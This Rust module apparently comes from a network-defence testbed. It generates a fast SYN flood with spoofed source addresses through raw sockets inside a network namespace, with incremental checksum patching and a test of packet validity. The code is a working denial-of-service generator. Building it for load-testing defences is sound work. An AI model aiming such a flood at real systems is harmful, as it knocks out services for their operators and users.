//! The flood: SYNs from addresses that nobody has, as fast as one CPU makes them.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use etherparse::TcpHeader;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use weir_testbed::Netns;
use weir_testbed::packet::Packet;

use crate::guard::Stop;

/// The attackers' networks, 11.0.0.0/8 and 2001:db8:ffff::/48: nothing of the world is in them.
const NET4: u32 = 0x0b00_0000;
const NET6: u128 = 0x2001_0db8_ffff << 80;
/// Random bits of an address: 2^24 of them.
const RANDOM_BITS: u32 = 24;
/// IPPROTO_RAW: whoever sends brings the header along.
const RAW: i32 = 255;
/// Packets between two looks at the clock and the stop sign.
const BATCH: u64 = 1024;

/// What was sent.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Sent {
    pub(crate) packets: u64,
    pub(crate) time: Duration,
}

/// One SYN, in which source, port and sequence number change.
struct Syn {
    bytes: Vec<u8>,
    /// Offsets of the source address, of TCP's header and, of IPv4 alone, of the header's checksum.
    source: usize,
    tcp: usize,
    header_check: Option<usize>,
    /// One's complement sums of all that stays.
    header_sum: u32,
    tcp_sum: u32,
}

impl Syn {
    fn to(target: SocketAddr) -> Self {
        let none: IpAddr = match target {
            SocketAddr::V4(_) => Ipv4Addr::UNSPECIFIED.into(),
            SocketAddr::V6(_) => Ipv6Addr::UNSPECIFIED.into(),
        };
        let header = TcpHeader { syn: true, window_size: 64_240, ..TcpHeader::default() };
        let bytes = Packet::tcp(SocketAddr::new(none, 0), target, header, &[]).ip_bytes();
        let (source, tcp, header_check) = if target.is_ipv4() { (12, 20, Some(10)) } else { (8, 40, None) };
        let mut new = Self { bytes, source, tcp, header_check, header_sum: 0, tcp_sum: 0 };
        // The checksums as they are: the complement of the sum of all but themselves.
        new.header_sum = header_check.map_or(0, |at| u32::from(!new.word(at)));
        new.tcp_sum = u32::from(!new.word(tcp + 16));
        new
    }

    fn word(&self, at: usize) -> u16 {
        u16::from_be_bytes([self.bytes[at], self.bytes[at + 1]])
    }

    /// The same from somebody else.
    fn from(&mut self, random: u64) -> &[u8] {
        let host = u32::try_from(random & ((1 << RANDOM_BITS) - 1)).unwrap_or_default();
        let [_, _, _, a, b, _, _, _] = random.to_be_bytes();
        let (port, sequence) = (1024 | u16::from_be_bytes([a, b]), random >> 32);
        let (tcp, source) = (self.tcp, self.source);
        let address: &mut [u8] = &mut self.bytes[source..];
        if self.header_check.is_some() {
            address[..4].copy_from_slice(&(NET4.wrapping_add(host)).to_be_bytes());
        } else {
            address[..16].copy_from_slice(&(NET6 | u128::from(host)).to_be_bytes());
        }
        self.bytes[tcp..tcp + 2].copy_from_slice(&port.to_be_bytes());
        self.bytes[tcp + 4..tcp + 8].copy_from_slice(&sequence.to_be_bytes()[4..]);
        let length = if self.header_check.is_some() { 4 } else { 16 };
        let sum =
            |at: usize, length: usize| (at..at + length).step_by(2).map(|at| u32::from(self.word(at))).sum::<u32>();
        let addresses = sum(source, length);
        let check = folded(self.tcp_sum + addresses + sum(tcp, 2) + sum(tcp + 4, 4));
        if let Some(at) = self.header_check {
            let header = folded(self.header_sum + addresses);
            self.bytes[at..at + 2].copy_from_slice(&header.to_be_bytes());
        }
        self.bytes[tcp + 16..tcp + 18].copy_from_slice(&check.to_be_bytes());
        &self.bytes
    }
}

/// The checksum for a sum (RFC 1071).
fn folded(mut sum: u32) -> u16 {
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap_or_default()
}

/// Sends so many SYNs from a namespace.
///
/// # Errors
/// When the socket cannot be made, and at the stop sign. What the kernel has no room for is not sent.
pub(crate) fn flood(netns: &Netns, target: SocketAddr, packets: u64, seed: u64, stop: &Stop) -> Result<Sent> {
    let raw = || Socket::new(Domain::for_address(target), Type::RAW, Some(Protocol::from(RAW)));
    let socket = netns.enter(raw).context("cannot make a raw socket")?;
    let (mut syn, mut random, to) = (Syn::to(target), fastrand::Rng::with_seed(seed), address(target.ip()));
    let begin = Instant::now();
    let mut sent = 0;
    while sent < packets {
        for _ in 0..BATCH {
            // A full queue takes the next one.
            sent += u64::from(socket.send_to(syn.from(random.u64(..)), &to).is_ok());
        }
        stop.check()?;
    }
    Ok(Sent { packets: sent, time: begin.elapsed() })
}

/// Raw sockets have no ports.
fn address(ip: IpAddr) -> SockAddr {
    SocketAddr::new(ip, 0).into()
}

#[cfg(test)]
mod tests {
    use weir_testbed::packet::decode;

    use super::*;

    #[test]
    fn each_syn_is_a_right_packet_of_another_address() {
        for target in ["10.96.0.80:80", "[fd00:96::80]:80"].map(|text| text.parse::<SocketAddr>().unwrap()) {
            let mut syn = Syn::to(target);
            let mut random = fastrand::Rng::with_seed(1);
            let mut sources = std::collections::BTreeSet::new();
            for _ in 0..100 {
                let bytes = syn.from(random.u64(..)).to_vec();
                let kind: [u8; 2] = if target.is_ipv4() { [8, 0] } else { [0x86, 0xdd] };
                // Wrong checksums are refused.
                let packet = decode(&[&[0; 12], &kind[..], &bytes].concat()).unwrap();
                assert_eq!(packet.destination_socket(), target);
                sources.insert(packet.source_socket());
            }
            assert_eq!(sources.len(), 100);
        }
    }
}
